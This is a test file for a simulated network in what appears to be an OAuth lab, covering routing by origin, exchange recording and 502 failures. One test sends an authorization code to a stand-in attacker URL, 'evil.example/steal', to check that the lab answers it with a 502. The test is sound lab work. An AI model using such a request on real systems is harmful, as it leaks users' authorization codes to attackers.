import { describe, expect, it } from 'vitest'
import { headerValue } from './exchange.ts'
import { createWire } from './wire.ts'
import type { Wire, WireRoute } from './wire.ts'

/** A server that echoes what it received, so tests can see the request arrived intact. */
function echo(origin: string, role: WireRoute['role']): WireRoute {
  return {
    origin,
    role,
    async fetch(request) {
      const body = await request.text()
      return Response.json({
        served: origin,
        method: request.method,
        path: new URL(request.url).pathname,
        body,
      })
    },
  }
}

function makeWire(extra: WireRoute[] = []): Wire {
  let clock = 1_000
  return createWire({
    routes: [
      echo('https://auth.photos.example', 'authorization-server'),
      echo('https://api.photos.example', 'resource-server'),
      ...extra,
    ],
    now: () => (clock += 5),
  })
}

describe('routing by origin', () => {
  it('delivers each request to the server at its origin and records who talked to whom', async () => {
    const wire = makeWire()
    const a = await wire.send(
      new Request('https://auth.photos.example/token', { method: 'POST', body: 'grant_type=x' }),
      {
        from: 'client',
        channel: 'back',
        label: 'Token request',
      },
    )
    const b = await wire.send(new Request('https://api.photos.example/photos'), {
      from: 'client',
      channel: 'back',
    })
    expect(await a.json()).toEqual({
      served: 'https://auth.photos.example',
      method: 'POST',
      path: '/token',
      body: 'grant_type=x',
    })
    expect(((await b.json()) as { served: string }).served).toBe('https://api.photos.example')
    const [first, second] = wire.exchanges()
    expect(first).toMatchObject({
      seq: 1,
      from: 'client',
      to: 'authorization-server',
      channel: 'back',
      label: 'Token request',
    })
    expect(second).toMatchObject({ seq: 2, from: 'client', to: 'resource-server', channel: 'back' })
    expect(second).not.toHaveProperty('label')
    expect(first?.startedAt).toBe(1_005)
    expect(first?.completedAt).toBe(1_010)
  })

  it('refuses two servers on one origin', () => {
    expect(() => makeWire([echo('https://api.photos.example', 'client')])).toThrow(
      'Two servers claim the origin https://api.photos.example',
    )
  })

  it('knows which role lives at a URL', () => {
    const wire = makeWire()
    expect(wire.roleAt('https://api.photos.example/photos?x=1')).toBe('resource-server')
    expect(wire.roleAt('https://elsewhere.example/')).toBeUndefined()
  })
})

describe('recording', () => {
  it('records request and response bodies while the caller and the server still read them whole', async () => {
    const wire = makeWire()
    const response = await wire.send(
      new Request('https://auth.photos.example/token', {
        method: 'POST',
        headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
        body: 'code=abc&code_verifier=xyz',
      }),
      { from: 'client', channel: 'back' },
    )
    const text = await response.text()
    const exchange = wire.exchanges()[0]!
    expect(exchange.request).toEqual({
      method: 'POST',
      url: 'https://auth.photos.example/token',
      headers: [['content-type', 'application/x-www-form-urlencoded']],
      body: 'code=abc&code_verifier=xyz',
    })
    expect(exchange.response.body).toBe(text)
    expect(JSON.parse(text)).toMatchObject({ body: 'code=abc&code_verifier=xyz' })
    expect(exchange.response.status).toBe(200)
    expect(exchange.response.statusText).toBe('OK')
    expect(headerValue(exchange.response.headers, 'Content-Type')).toBe('application/json')
  })

  it('records a GET as having no body, and fills an empty reason phrase from the status', async () => {
    const wire = createWire({
      routes: [
        {
          origin: 'https://x.example',
          role: 'client',
          fetch: async () => new Response('nope', { status: 401 }),
        },
      ],
    })
    await wire.send(new Request('https://x.example/'), { from: 'user-agent', channel: 'front' })
    const [exchange] = wire.exchanges()
    expect(exchange?.request.body).toBeNull()
    expect(exchange?.response.statusText).toBe('Unauthorized')
  })

  it('keeps every Set-Cookie header as its own entry', async () => {
    const headers = new Headers()
    headers.append('Set-Cookie', 'a=1; Path=/')
    headers.append('Set-Cookie', 'b=2; Path=/')
    const wire = createWire({
      routes: [
        {
          origin: 'https://x.example',
          role: 'client',
          fetch: async () => new Response(null, { headers }),
        },
      ],
    })
    await wire.send(new Request('https://x.example/'), { from: 'user-agent', channel: 'front' })
    expect(wire.exchanges()[0]?.response.headers).toEqual([
      ['set-cookie', 'a=1; Path=/'],
      ['set-cookie', 'b=2; Path=/'],
    ])
  })

  it('is frozen plain data that survives JSON', async () => {
    const wire = makeWire()
    await wire.send(new Request('https://api.photos.example/photos'), {
      from: 'client',
      channel: 'back',
    })
    const list = wire.exchanges()
    expect(Object.isFrozen(list)).toBe(true)
    expect(Object.isFrozen(list[0])).toBe(true)
    expect(Object.isFrozen(list[0]?.request.headers)).toBe(true)
    expect(JSON.parse(JSON.stringify(list))).toEqual(list)
  })

  it('orders a nested back-channel call after the request it serves', async () => {
    const api: WireRoute = {
      origin: 'https://api.photos.example',
      role: 'resource-server',
      async fetch() {
        const keys = await wire.send(new Request('https://auth.photos.example/jwks'), {
          from: 'resource-server',
          channel: 'back',
        })
        return new Response(`keys: ${((await keys.json()) as { path: string }).path}`)
      },
    }
    const wire: Wire = createWire({
      routes: [api, echo('https://auth.photos.example', 'authorization-server')],
    })
    const response = await wire.send(new Request('https://api.photos.example/photos'), {
      from: 'client',
      channel: 'back',
    })
    expect(await response.text()).toBe('keys: /jwks')
    expect(wire.exchanges().map((e) => [e.seq, e.from, e.to])).toEqual([
      [1, 'client', 'resource-server'],
      [2, 'resource-server', 'authorization-server'],
    ])
  })
})

describe('failures the wire answers itself', () => {
  it('an origin with no server: a recorded 502 with a readable body, no throw', async () => {
    const wire = makeWire()
    const response = await wire.send(new Request('https://evil.example/steal?code=abc'), {
      from: 'user-agent',
      channel: 'front',
    })
    expect(response.status).toBe(502)
    expect(await response.text()).toBe(
      "No server answers at https://evil.example in this lab. The lab's servers are at: https://auth.photos.example, https://api.photos.example.\n",
    )
    expect(wire.exchanges()[0]).toMatchObject({
      to: null,
      failure: 'no-route',
      response: { status: 502, statusText: 'Bad Gateway' },
    })
  })

  it('a server that throws: a recorded 502 naming the error', async () => {
    const wire = createWire({
      routes: [
        {
          origin: 'https://x.example',
          role: 'client',
          fetch: () => Promise.reject(new Error('boom')),
        },
      ],
    })
    const response = await wire.send(new Request('https://x.example/'), {
      from: 'user-agent',
      channel: 'front',
    })
    expect(response.status).toBe(502)
    expect(await response.text()).toContain(
      'The server at https://x.example failed before answering: boom',
    )
    expect(wire.exchanges()[0]?.failure).toBe('server-threw')
  })
})
